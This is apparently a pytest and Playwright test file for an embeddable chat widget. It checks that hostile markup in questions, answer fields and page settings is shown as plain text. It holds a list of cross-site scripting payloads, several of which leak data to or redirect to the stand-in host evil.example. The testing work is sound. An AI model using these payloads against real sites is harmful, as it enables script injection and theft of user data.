"""Text that wants to be more: in questions, in every field of an answer, in settings of the page."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from tests.page.conftest import Tab
from tests.toy_home import ROOT
from tests.widget.conftest import Open
from tests.widget.hosts import WebSite, script
from tests.widget.slow import ANSWER, CITATION

ALARM = "window.hacked=1"
STRINGS = [
    f"<script>{ALARM}</script>",
    f"</script><script>{ALARM}</script>",
    f"<img src=x onerror={ALARM}>",
    f'"><img src=x onerror="{ALARM}">',
    f"<svg onload={ALARM}>",
    f"<svg><script>{ALARM}</script></svg>",
    f"<svg><animate onbegin={ALARM} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={ALARM}>",
    f"<iframe srcdoc='<script>parent.{ALARM}</script>'>",
    f"<iframe src=javascript:parent.{ALARM}>",
    f"<a href=javascript:{ALARM}>点我</a>",
    f"[点我](javascript:{ALARM})",
    f"![x](https://evil.example/leak?q={ALARM})",
    f"<details open ontoggle={ALARM}>",
    f"<input autofocus onfocus={ALARM}>",
    f"<body onload={ALARM}>",
    f"<object data='data:text/html,<script>{ALARM}</script>'></object>",
    f"<meta http-equiv=refresh content='0;url=javascript:{ALARM}'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><input name=q></form>",
    f"<style>@import 'https://evil.example/?{ALARM}';*{{display:none}}</style>",
    f"<kewen-chat site='x' onclick={ALARM}></kewen-chat>",
    f"<template shadowrootmode=open><script>{ALARM}</script></template>",
    f"{{{{constructor.constructor('{ALARM}')()}}}}",
    f"${{{ALARM}}} `{ALARM}` <%= {ALARM} %>",
    "\u202e<gpj.exe>\u202c \u2066\u2069",
    f"<ScRiPt/x>{ALARM}</sCrIpT >",
    f"&lt;script&gt;{ALARM}&lt;/script&gt; &#60;script&#62;",
    f"javascript:{ALARM} data:text/html,<script>{ALARM}</script> vbscript:x",
    "https://evil.example/?c=[1] http://127.0.0.1:1/x",
    "__proto__ constructor toString hasOwnProperty",
]


def answer(bad: str, number: int) -> dict[str, Any]:
    """An answer with the string wherever a string can be."""
    citation = {
        **CITATION,
        "id": bad,
        "title": bad,
        "locator": bad,
        "quote": bad,
        "url": bad,
        # What a citation names as its source is a link by right, if it is an address at all.
        "source_url": None if bad.startswith("http") else bad,
    }
    card = {
        "id": bad,
        "name": bad,
        "type": bad,
        "host": bad,
        "province": bad,
        "access": bad,
        "url": citation["source_url"],
        "how_to_apply": [bad],
        "identifiers": [bad],
        "contact": bad,
        "verification": bad,
    }
    more = {"notices": [bad], "follow_ups": [bad], "filters": {"types": [bad], bad: [bad], "as_of": bad}}
    told = {"text": f"{bad} [1]\n• {bad}\n1. {bad}", "citations": [citation], "resources": [card]}
    return {**ANSWER, **more, **told, "id": f"a_{number}", "generated_by": f"llm:{bad}"}


def untouched(tab: Tab) -> None:
    """Nothing ran, nothing was drawn that is not ours, nothing was asked for elsewhere."""
    page = tab.page
    assert page.evaluate("window.hacked") is None
    ours = "img, script, iframe, object, style, base, meta, math, animate, template, form[action], kewen-chat"
    assert page.locator(f".chat >> css={ours}").count() == 0
    hrefs = page.eval_on_selector_all(".chat a", "links => links.map((link) => link.protocol + link.host)")
    assert {href.partition(":")[0] for href in hrefs} <= {"http", "https"}
    handlers = (
        "nodes => nodes.flatMap((n) => [...n.attributes]).filter((a) => /^(on|style$)/i.test(a.name)).length"
    )
    assert page.eval_on_selector_all(".chat *:not(textarea):not(.panel)", handlers) == 0
    assert tab.complaints == []


@pytest.fixture
def tab(visit: Open, member: WebSite, kewen: str) -> Tab:
    opened = visit(member.add("/markup", body=script(kewen, site="toy", mode="inline")))
    opened.page.get_by_role("textbox").wait_for()
    elsewhere: list[str] = opened.complaints

    def note(url: str) -> None:
        if "evil.example" in url:
            elsewhere.append(f"asked for {url}")

    opened.page.on("request", lambda request: note(request.url))
    return opened


def test_questions_stay_text(tab: Tab) -> None:
    for bad in STRINGS[:12:3]:
        question = f"{bad} 玩具雪山科学数据中心"
        tab.ask(question)
        expect(tab.page.locator(".question").last).to_contain_text(question)
    untouched(tab)


def test_answers_stay_text(tab: Tab, member: WebSite) -> None:
    page = tab.page
    waiting: list[dict[str, Any]] = []

    def reply(route: Any) -> None:
        body = f"event: done\ndata: {json.dumps(waiting.pop())}\n\n"
        headers = {"Access-Control-Allow-Origin": member.origin}
        route.fulfill(status=200, content_type="text/event-stream", headers=headers, body=body)

    page.route("**/api/ask", reply)
    for number, bad in enumerate(STRINGS):
        waiting.append(answer(bad, number))
        tab.ask(f"{number}")
    expect(page.locator(".prose")).to_have_count(len(STRINGS))
    show_everything(page)
    for number, bad in enumerate(STRINGS):
        shown = page.locator(".prose").nth(number).locator("p").first.text_content() or ""
        # A number that the answer cites becomes its button, also inside.
        assert shown.replace(" ", "") == f"{bad} [1]".replace("[1]", "1").replace(" ", ""), bad
    page.locator("button.cite").first.click()
    expect(page.locator("dialog.reader blockquote")).to_have_text(STRINGS[0])
    page.keyboard.press("Escape")
    links = page.eval_on_selector_all(".chat a", "links => links.map((link) => link.href)")
    assert [link for link in links if "/resources/" not in link] == []
    untouched(tab)


SETTINGS = ["accent", "theme", "position", "name", "logo", "questions", "context", "language"]


def show_everything(page: Page) -> None:
    page.eval_on_selector_all(".chat details", "all => all.forEach((one) => { one.open = true; })")


@pytest.mark.parametrize("name", SETTINGS)
def test_settings_of_the_page_stay_text(visit: Open, member: WebSite, kewen: str, name: str) -> None:
    bad = f"red}}*{{display:none}}&quot;&gt;&lt;img src=x onerror={ALARM}&gt;"
    body = script(kewen, site="toy", mode="inline", **{name: bad})
    tab = visit(member.add(f"/settings-{name}", body=body))
    expect(tab.page.get_by_role("textbox")).to_be_visible()
    assert tab.page.evaluate("window.hacked") is None
    assert tab.page.locator("img").count() == 0


SHARED = ROOT.parent / "shared" / "bench" / "ingest-inputs"


@pytest.mark.skipif(not SHARED.is_dir(), reason="no shared bench")
def test_the_shared_strings_stay_text(tab: Tab, member: WebSite) -> None:
    strings = shared_strings(SHARED)
    assert strings
    page = tab.page
    waiting: list[dict[str, Any]] = []

    def reply(route: Any) -> None:
        body = f"event: done\ndata: {json.dumps(waiting.pop())}\n\n"
        headers = {"Access-Control-Allow-Origin": member.origin}
        route.fulfill(status=200, content_type="text/event-stream", headers=headers, body=body)

    page.route("**/api/ask", reply)
    for number, bad in enumerate(strings):
        waiting.append(answer(bad, number))
        tab.ask(f"{number}")
    show_everything(page)
    untouched(tab)


def shared_strings(folder: Path) -> list[str]:
    """Lines of text files there that look like markup."""
    found: list[str] = []
    for file in sorted(folder.rglob("*")):
        if (
            file.suffix in {".txt", ".json", ".jsonl", ".html", ".xml", ".md"}
            and file.stat().st_size < 300_000
        ):
            lines = file.read_text(encoding="utf-8", errors="replace").splitlines()
            found += [line.strip()[:400] for line in lines if "onerror" in line or "<script" in line.lower()]
    return found[:25]
